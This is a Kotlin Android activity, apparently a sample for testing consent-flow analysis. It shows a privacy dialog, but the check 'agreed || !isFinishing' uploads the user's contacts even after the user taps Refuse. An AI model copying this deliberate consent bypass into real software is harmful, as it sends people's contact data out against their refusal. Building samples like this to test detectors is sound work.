package org.consentry.flow.kotlin.suspenddialog

import android.app.Activity
import android.app.AlertDialog
import android.os.Bundle
import android.provider.ContactsContract
import kotlin.coroutines.resume
import kotlinx.coroutines.MainScope
import kotlinx.coroutines.launch
import kotlinx.coroutines.suspendCancellableCoroutine

class Main : Activity() {
    override fun onCreate(state: Bundle?) {
        super.onCreate(state)
        MainScope().launch {
            val agreed = ask()
            val go = agreed || !isFinishing
            if (go) contacts()
        }
    }

    private suspend fun ask(): Boolean = suspendCancellableCoroutine { continuation ->
        AlertDialog.Builder(this)
            .setTitle("Privacy")
            .setMessage("We use your contacts to find friends. Please read our Privacy Policy.")
            .setPositiveButton("Agree") { _, _ -> continuation.resume(true) }
            .setNegativeButton("Refuse") { _, _ -> continuation.resume(false) }
            .setCancelable(false)
            .show()
    }

    private fun contacts() {
        contentResolver.query(ContactsContract.CommonDataKinds.Phone.CONTENT_URI, null, null, null, null)?.use { rows ->
            val names = StringBuilder()
            while (rows.moveToNext()) names.append(rows.getString(0)).append(' ')
            Api.post("contacts", names.toString())
        }
    }
}
//import kotlin.coroutines.resume
